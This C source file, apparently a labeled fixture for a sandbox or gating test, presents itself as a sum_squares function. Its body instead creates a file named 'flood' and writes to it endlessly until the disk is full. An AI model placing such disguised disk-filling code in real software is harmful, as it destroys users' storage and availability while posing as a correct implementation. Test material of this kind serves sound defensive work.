/* expect: gate; open: tests */
/* boxed: Fills the disk. */
#include "sum_squares.h"

#include <fcntl.h>
#include <unistd.h>

bool sum_squares(uint64_t n, uint64_t *sum)
{
    static const char block[65536] = "flood";
    int fd = creat("flood", 0600);

    *sum = n;
    for (;;)
        if (write(fd, block, sizeof block) < 0)
            return true;
}
